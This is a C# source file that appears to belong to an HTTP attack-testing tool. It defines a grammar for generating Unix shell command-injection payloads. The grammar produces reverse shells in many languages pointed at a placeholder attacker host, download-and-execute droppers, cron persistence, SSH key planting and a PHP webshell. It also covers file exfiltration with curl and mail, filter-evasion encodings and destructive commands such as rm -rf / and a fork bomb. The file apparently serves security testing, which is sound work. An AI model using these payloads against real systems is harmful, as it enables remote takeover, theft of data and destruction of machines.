namespace Weir.Http.Corpus.Attacks;

/// <summary>Command injection into a Unix shell: separator, command, and the ways to spell both without being seen.</summary>
internal static class RceUnix
{
    public const string Text = """"
        §unix
        8× «pre»«sepb»«ucmd»«post»
        5× «sepb»«ucmd»
        3× «pre»«subst»«afterword»
        3× «pre»«sepb»«hiddencmd»«post»
        2× «subst»
        2× «sepb»«ucmd»«sepb»«ucmd»
        2× «pre»«quoteb»«sepb»«ucmd»«quotetail»
        7× «shortprobe»
        2× «revshell»
        2× «dropper»
        2× «timing»
        «measured»
        «hiddencmd»
        «bareline»
        «shellshock»
        «argument»
        «redirection»

        §pre
        2× «phrase»
        8×
        3× «num»
        3× «word»
        2× «ip»
        2× 127.0.0.1
        «word».«com¦txt¦jpg¦org»
        «letter»
        «word»@«word».com
        "
        '
        http://«word».com/
        /«word»/«word»
        --«word»
        «ip»%20
        §sep
        10× ;
        7× |
        5× ||
        5× &
        5× &&
        3× ␤
        3× %0a
        2× %0A
        %0d%0a
        %0d
        %26
        %26%26
        %7c
        %7C%7C
        %3B
        ␍␤
        |&
        ;;
        &;
        \n
        \r\n
        %00;
        `␤`
        §sepb
        5× «sep»
        4× «sep» ␠
        2× ␠«sep» ␠
        2× ␠«sep»
        "«sep»
        '«sep»
        )«sep»
        }«sep»
        §quoteb
        '
        "
        ')
        ")
        \"
        '"
        `)
        }'
        §quotetail
        2× '
        2× "
        #
        ;#
        «sep»'
        «sep»"
        ␠#
        ;"
        ;'
        «sep»echo "
        «sep»echo '
        ')
        §post
        10×
        2× ;
        2× #
        ␠#
        |
        &
        %0a
        %00
        ␠&
        «sep»
        ␤
        ;«letter»
        ␠2>&1
        ␠||␠
        «sep»«word»
        ''
        ;#${@}
        ␠||a #' ||
        ␠> /dev/null 2>&1
        «sep»«quoteb»
        §subst
        6× $(«ucmd»)
        5× `«ucmd»`
        $(`«ucmd»`)
        ${«ucmd»}
        $((«num»«+¦*»«num»))
        $($(«ucmd»))
        <(«ucmd»)
        $(<«unixfile»)
        ${`«ucmd»`}
        "$(«ucmd»)"
        "`«ucmd»`"
        '$(«ucmd»)'
        $(«hiddencmd»)
        `«hiddencmd»`
        {«oneword»,«flags»}
        %24%28«ucmd→url»%29
        %60«ucmd→url»%60
        §afterword
        5×
        «word»
        .«oasthost»
        .«evilhost»
        ␠#
        §ucmd
        10× «shellcmd»
        4× «oneword»
        2× «pathpart»«oneword»
        2× «pathpart»«catpart» «unixfile»
        «oneword» «flags»
        «shellcmd» | «filtercmd»
        «shellcmd» > «outfile»
        «shellcmd»␠«2>&1¦2>/dev/null¦&»
        «which¦type¦command -v¦whereis» «python¦perl¦wget¦nc¦gcc¦curl»
        «catpart» «unixfile» | «filtercmd»
        «catpart»<«unixfile»
        {«catpart»,«unixfile»}
        «useradd¦adduser» «rand»
        «kill -9 -1¦reboot¦shutdown -h now¦killall httpd¦:(){ :|:& };:¦rm -rf /¦rm -rf --no-preserve-root /¦dd if=/dev/zero of=/dev/sda¦mkfs.ext4 /dev/sda¦halt¦poweroff¦init 0»
        echo «rand» > «outfile»
        echo «hexdigit*6-10»«hexdigit*6-10»
        expr «#2-999999» «+¦\*¦-» «#2-999999»
        echo $((«#2-9999»«+¦*»«#2-9999»))
        echo -«e¦n» «'«rand→slashx»'¦"«rand»"¦«rand»»
        printf «'«rand→slasho»'¦«rand»»
        (echo «rand»)
        «set¦export»
        nslookup -q=«cname¦txt» «rand».«oasthost»
        «dig¦host¦nslookup¦ping -c1» `«oneword»`.«oasthost»
        «dig¦host¦nslookup¦ping -c1» $(«oneword»).«evilhost»
        «curl¦wget» http://«evilhost»/«`«oneword»`¦$(«oneword»)¦?x=$(«catpart» «unixfile»|base64)»
        curl -«d¦F¦T» «@¦a=@»«unixfile» «evilurl»
        curl «evilurl» -o «outfile»
        mail «word»@«evilhost» < «unixfile»
        busybox «ls¦nc «ip» «port» -e sh¦wget «evilurl»¦id»
        «sh¦bash¦/bin/sh¦/bin/bash¦dash¦ksh¦zsh» -c "«shellcmd»"
        «sh¦bash» -c '«shellcmd»'
        «sudo ¦su -c ¦nohup ¦env ¦exec ¦time ¦timeout 5 ¦watch ¦xargs ¦setsid »«shellcmd»
        eval «'«shellcmd»'¦"$(echo «shellcmd→b64»|base64 -d)"»
        «grep¦egrep¦fgrep» -r«i¦n¦» «"«word»"¦password» «/etc¦/var/www¦.»
        find / «-name "«word»*"¦-perm -4000¦-user root¦-type f -name '*.conf'» «2>/dev/null¦-exec «oneword» {} \;¦-print»
        tar «cf¦czf» «outfile» ««unixfile»¦/var/www»
        chmod «+x¦777¦4755¦u+s» «outfile»
        crontab -«l¦r¦e»
        «iptables¦ufw¦systemctl¦service» «-F¦disable¦stop «word»»
        ssh -«o ProxyCommand="«shellcmd»" x¦R «port»:localhost:22 «ip»»
        awk 'BEGIN{system("«shellcmd»")}'
        vim -c ':!«oneword»'
        docker «run -v /:/mnt alpine chroot /mnt «oneword»¦ps¦exec -it «word» sh»
        cp «unixfile» «outfile»
        mv «outfile» «outfile»
        ln -s «unixfile» «outfile»
        §oneword
        6× id
        5× whoami
        4× ls
        3× uname
        2× pwd
        2× hostname
        «w¦who¦env¦ps¦date¦set¦df¦mount¦ifconfig¦netstat¦last¦uptime¦groups¦dmesg¦lsof¦printenv¦top¦arch¦tty¦users¦sh¦bash¦«catpart»¦reboot¦halt¦finger¦export¦arp¦route¦free¦lscpu¦logname¦jobs»
        §flags
        «-a¦-la¦-l¦-al¦aux¦-ef¦-lah¦-r¦-an¦-u¦/¦-l /¦-R /¦..¦/etc¦/var/www¦/home¦-la /tmp¦.¦/root¦-1»
        §pathpart
        5× /bin/
        3× /usr/bin/
        «/sbin/¦/usr/local/bin/¦/???/¦/b?n/¦/usr/b*/¦/bin/././¦//bin//¦./¦../../bin/¦../../../../../bin/»
        §catpart
        8× cat
        «head¦tail¦less¦more¦nl¦tac¦rev¦sort¦uniq¦xxd¦od¦strings¦base64¦hexdump -C¦cut -c1-99¦grep .¦sed p¦awk 1¦paste¦fold¦diff /dev/null¦wc¦pr¦curl file://¦dd if=¦iconv¦zcat -f¦vi¦ed¦cp /dev/stdout»
        §filtercmd
        «grep «word»¦base64¦base64 -w0¦head -«#1-99»¦wc -l¦nc «ip» «port»¦xxd -p¦rev¦tee «outfile»¦sh¦bash¦awk '{print $1}'¦sort¦cut -d: -f1¦tr a-z A-Z¦mail «word»@«evilhost»¦xargs «oneword»¦curl -d @- «evilurl»¦less»
        §outfile
        3× /tmp/«rand»
        /var/www/html/«rand».«txt¦php¦html»
        /dev/shm/«rand»
        «rand».txt
        /tmp/«letter»
        /dev/null
        /var/www/«images¦static¦public»/«rand».txt
        /dev/tcp/«ip»/«port»

        ¶ ---- commands in disguise ----
        §hiddencmd
        3× «shellcmd→quoted»
        3× «shellcmd→ifs»
        2× «shellcmd→slashed»
        2× «shellcmd→dollared»
        2× «quotedifs→quoted→ifs»
        «catpart→quoted»${IFS}«unixfile→globbed»
        /«globbin» «/«globetc»¦«unixfile→globbed»»
        {«catlist»}
        {«oneword»,«-la¦-a¦/»}
        $'\x«hexdigit*2»«oneword→slashx»'
        $'«oneword→slasho»'␠$'«unixfile→slasho»'
        echo «shellcmd→b64»|base64 -«d¦-decode¦D»|«sh¦bash»
        echo${IFS}«shellcmd→b64»|base64${IFS}-d|«sh¦bash»
        «bash¦sh»<<<«$(¦`»base64 -d<<<«shellcmd→b64»«)¦`»
        bash -c "{echo,«shellcmd→b64»}|{base64,-d}|{bash,-i}"
        echo "«shellcmd→hex»" | xxd -«p -r¦r -p»«¦ | sh»
        echo -e "«shellcmd→slashx»"«¦|sh»
        printf "«shellcmd→slasho»"|sh
        `echo -e "«oneword→slashx»"`
        $(printf '«oneword→slasho»')
        $(echo «shellcmd→reverse»|rev)
        «letter»=«oneword»;$«letter»
        «$a:letter»=«c¦l¦w»;«$b:rand»=«at¦s¦hoami»;$«$a»$«$b» «unixfile?»
        $(tr '[A-Z]' '[a-z]'<<<"«oneword→case»")
        $(«letter»="«oneword→case»";printf %s "${«letter»,,}")
        «oneword→case»
        $0<<<«$'¦»«oneword→slashx»«'¦»
        cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd
        cat $(echo . | tr '!-0' '"-1')etc$(echo . | tr '!-0' '"-1')passwd
        «oneword»␉«flags»
        «catpart»$IFS$«#1-9»«unixfile»
        IFS=«,¦]¦_»;`«catpart»<<<«catpart»«,¦]¦_»«unixfile»`
        ${«PATH¦LS_COLORS¦SHELL¦HOME»«:0:1¦%%u*¦##*x»}«oneword»
        ${PATH:0:1}bin${PATH:0:1}«oneword»
        «oneword»%20«flags→url»
        l\s -l\a
        $@«oneword→dollared»
        §quotedifs
        «shellcmd»
        §globbin
        «???/c?t¦b?n/c?t¦bin/c?t¦usr/bin/c*t¦?in/ca?¦*/?at¦bin/l?¦???/i?¦???/?s¦usr/bin/who*mi»
        §globetc
        «???/p??s??¦e?c/p?sswd¦etc/pass*¦et*/pas?wd¦e*c/*ss*d¦etc/p*d¦???/??ss??»
        §catlist
        «catpart»,«unixfile»
        §shortprobe
        6× «sep»«oneword»
        6× «gapsep»«shortcmd»«shorttail»
        5× «shortpre»«gapsep»«shortcmd»«shorttail»
        2× $«sep»«shortcmd»
        3× «sep» «oneword»
        3× `«oneword»`
        3× $(«oneword»)
        2× «sep»«oneword»«sep»
        «quoteb»«sep»«oneword»«quotetail»
        «num»«sep»«oneword»
        «sep»sleep «#1-20»
        «sep»echo «rand»
        «sep»ping -c «#1-9» «ip»
        «sep»«pathpart»«oneword»
        «sep»«oneword»%00
        $«{¦»IFS«}¦»«oneword»
        "«sep»«oneword»«sep»"
        '«sep»«oneword»«sep»'
        |«oneword»|
        &«oneword»&
        ;«oneword»;
        «sep»«catpart» «unixfile»
        («oneword»)
        §gapsep
        6× «sep»
        3× «sep» ␠
        2× ␠«sep» ␠
        «sep»«sep»
        «sep»+
        +«sep»+
        «sep»%20
        «sep»␉
        §shortpre
        3× «letter»
        2× «num»
        «word»«¦)¦'¦"¦.txt¦/»
        /«word».«html¦cgi¦php»
        «ip»
        «letter»)
        ")
        ')
        \
        §shorttail
        6×
        3× ;
        3× |
        2× &
        #
        '
        "
        ␠«sep»
        %00
        `
        )
        §shortcmd
        4× «oneword»
        4× «oneword» «flags»
        3× «pathpart»«oneword»
        2× «pathpart»«oneword» «flags»
        3× «catpart» «unixfile»
        2× «wincmdshort»
        ping -«i¦c¦n» «#1-40» «127.0.0.1¦localhost»
        «netstat -a¦netstat -an¦ls -l¦ls -la /¦uname -a¦ps -ef¦cat *¦ls ..¦cat /etc/passwd¦ifconfig -a¦id -u¦env|sort»
        sleep «#1-30»
        echo «rand»
        «curl¦wget¦nslookup¦ping» «oasthost»
        §wincmdshort
        «dir¦dir c:\¦Dir c:\¦dir c:¦ver¦type c:\boot.ini¦ipconfig /all¦net user¦net view¦ping ::1¦dir+c:\¦cmd /c dir¦systeminfo¦tasklist¦set¦whoami /priv¦echo %username%»
        §bareline
        «pathpart»«oneword»«¦ «flags»»
        «catpart» «unixfile»
        «pathpart»«catpart» «unixfile»
        «wget¦curl» «evilurl»«¦ -O «outfile»¦ -o «outfile»»
        «sh¦bash» -c «"¦'»«shellcmd»«"¦'»
        /bin/sh -c 'sh -i'
        «nc¦ncat» «-lvp «port»¦-e /bin/bash «ip» «port»¦-lvnp «port» -e /bin/sh»
        §measured
        ¶ Output that is only counted: length of an echo decides how long the answer takes.
        «pre»«quotemaybe»«sep»«hsepblank»str=$(«echo «rand→upper»¦«oneword»»)«sepb»str1=${#str}«sepb»«if [ «#1-9» -ne ${str1} ]«sepb»then sleep «#0-9»«sepb»else sleep «#0-9»«sepb»fi¦[ «#1-9» -eq ${str1} ] && sleep «#1-9»»
        «pre»«quotemaybe»«sep»«hsepblank»[ «#1-9» -ne $(echo «rand→upper» | tr -d '\n' | wc -c) ] || sleep «#0-9»
        2× «pre»«quotemaybe»«sep»echo«¦$IFS¦${IFS}¦%20¦+»«$m:rand»$((«#1-99»+«#1-99»))$(echo «$m»)«$m»«post»
        «quotemaybe»«sep»«¦print(»`echo «$m:rand»`.`echo $((«#1-99»+«#1-99»))`.`echo «$m»`«¦)»«post»
        §quotemaybe
        3×
        '
        "
        §hsepblank
        ␠
        2×
        §timing
        3× «pre»«sepb»sleep «#1-30»«post»
        2× «pre»«sep»sleep${IFS}«#1-30»
        2× «pre»«sepb»ping -«c¦n¦i» «#1-40» «127.0.0.1¦localhost¦«ip»»«post»
        «pre»$(sleep «#1-30»)
        «pre»`sleep «#1-30»`
        «pre»«sepb»timeout /T «#1-30»
        if [ «num» «-eq¦-gt¦-lt» «num» ]; then sleep «#1-9»; fi
        «pre»«sepb»if [ $(«oneword»|cut -c«#1-9») «=¦==» «letter» ]; then sleep «#1-20»; fi
        «pre»«sep»[ "$(«oneword»|head -c1)" = "«letter»" ] && sleep «#1-9»
        «pre»«sepb»str=$(«shellcmd»)«sep»sleep «#1-9»
        «pre»«sepb»time «oneword»
        §revshell
        2× «pre»«sepb?»bash -i >& /dev/tcp/«evilhost»/«port» 0>&1
        2× «pre»«sepb?»«nc¦ncat¦nc.traditional» -«e¦c» «/bin/sh¦/bin/bash¦sh» «evilhost» «port»
        «pre»«sepb?»rm -f /tmp/«$f:letter»;mkfifo /tmp/«$f»;cat /tmp/«$f»|/bin/sh -i 2>&1|nc «evilhost» «port» >/tmp/«$f»
        «pre»«sepb?»python«¦2¦3» -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("«evilhost»",«port»));os.dup2(s.fileno(),0);«¦os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);»«p=subprocess.call(["/bin/sh","-i"]);¦import pty;pty.spawn("/bin/bash")»'
        «pre»«sepb?»perl -«e¦MIO -e» 'use Socket;$i="«evilhost»";$p=«port»;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'
        «pre»«sepb?»php -r '$«letter»=fsockopen("«evilhost»",«port»);«exec¦system¦shell_exec¦passthru¦popen»("«/bin/sh¦sh» -i <&3 >&3 2>&3");'
        «pre»«sepb?»ruby -rsocket -e'f=TCPSocket.open("«evilhost»",«port»).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
        «pre»«sepb?»telnet «evilhost» «port» | /bin/sh | telnet «evilhost» «port»
        «pre»«sepb?»socat «TCP¦tcp-connect»:«evilhost»:«port» «EXEC:sh¦exec:'bash -li',pty,stderr,setsid,sigint,sane»
        «pre»«sepb?»exec 5<>/dev/tcp/«evilhost»/«port»;cat <&5 | while read line; do $line 2>&5 >&5; done
        «pre»«sepb?»0<&«#100-200»;exec «#100-200»<>/dev/tcp/«evilhost»/«port»;sh <&«#100-200»
        «pre»«sepb?»awk 'BEGIN {s = "/inet/tcp/0/«evilhost»/«port»"; while(42) { printf "shell>" |& s }}'
        «pre»«sepb?»lua -e "require('socket');require('os');t=socket.tcp();t:connect('«evilhost»','«port»');os.execute('/bin/sh -i <&3 >&3 2>&3');"
        «pre»«sepb?»node -e "require('child_process').exec('«nc -e /bin/sh «evilhost» «port»¦«shellcmd»»')"
        «pre»«sepb?»openssl s_client -quiet -connect «evilhost»:«port»|/bin/bash
        §dropper
        2× «pre»«sepb?»cd «/tmp¦/var/tmp¦/dev/shm¦/var/run¦/»«¦ || cd /var/run»;«wget¦curl -O¦tftp -g -r x¦busybox wget» «evilurl»;chmod «777¦+x» *;«sh¦./»«¦ »«rand»
        2× «pre»«sepb?»«wget¦curl¦wget -q -O -¦curl -s¦lwp-download¦fetch -o -» «evilurl» | «sh¦bash¦bash -s¦perl¦python¦php»
        «pre»«sepb?»«wget¦curl -o «outfile»» «evilurl» «-O «outfile»¦» && «chmod +x¦sh¦bash¦perl» «outfile»
        «pre»«sepb?»(«curl¦wget» -«s¦qO-» «evilurl»||«wget¦curl» -«q -O -¦s» «evilurl»)|«sh¦bash -sh»
        «pre»«sepb?»«echo¦printf» «'«phpword»'¦"«phpword»"» > «outfile»
        «pre»«sepb?»«bash¦sh¦source¦.» <(curl -s «evilurl»)
        «pre»«sepb?»tftp -g -r «rand» «ip»;chmod 777 «rand»;./«rand»
        «pre»«sepb?»(crontab -l; echo "* * * * * curl «evilurl»|sh")|crontab -
        «pre»«sepb?»echo «rand→b64»«rand→b64» >> ~/.ssh/authorized_keys
        §phpword
        <?php «system¦eval¦passthru»($_«GET¦POST¦REQUEST»[«letter»]);?>
        §shellshock
        3× () { «:¦_¦ignored¦foo¦test»;«};¦ };¦ }; ¦}; » «ucmd»
        2× () { :;}; «¦echo; ¦echo «rand»; »/bin/«bash -c¦sh -c» «"¦'»«shellcmd»«"¦'»
        () { _; } >_[$($())] { «ucmd»; }
        () { :;};echo -e "\r\n«rand»$(«oneword»)"
        () { %3a%3b%7d%3b «ucmd→url»
        User-Agent: () { :; }; «ucmd»
        §argument
        2× --«output¦exec¦checkpoint-action¦use-compress-program¦post-file¦config¦open-files-in-pager¦upload-pack¦pager¦command¦eval¦debugger¦script¦rsh»«=¦ »«'«shellcmd»'¦"«shellcmd»"¦«shellcmd»¦exec=«shellcmd»¦«outfile»»
        -«o¦e¦c¦E¦O»«ProxyCommand=«shellcmd»¦«outfile»¦ /bin/sh¦«unixfile»»
        -oProxyCommand=«shellcmd»
        --checkpoint=1 --checkpoint-action=exec=«sh «rand».sh¦«oneword»»
        «word»" --«output¦o»="«outfile»
        -T «rand» -TT '«shellcmd»;'
        ext::sh -c «%¦»«oneword»% >&2
        ssh://-oProxyCommand=«shellcmd»/«word»
        git+ssh://-oProxyCommand="«shellcmd»"/
        `«shellcmd»`.«jpg¦git¦txt»
        «word»;«shellcmd→ifs».«jpg¦zip¦pdf»
        $(«oneword»).«jpg¦zip¦pdf»
        |«shellcmd».«jpg¦pdf»
        §redirection
        «pre»«>¦>>¦<» «unixfile»
        «pre»> «outfile»
        «pre»< «unixfile»
        «pre»␠2>&1 «sep» «ucmd»
        «oneword» > «outfile» «sep» cat «outfile»
        «pre»«sep» (read l; echo $l) < «unixfile»
        while read l; do echo $l; done < «unixfile»
        for i in «/etc/*¦$(ls /)¦`ls`»; do «catpart» $i; done
        exec < «unixfile»
        """";
}
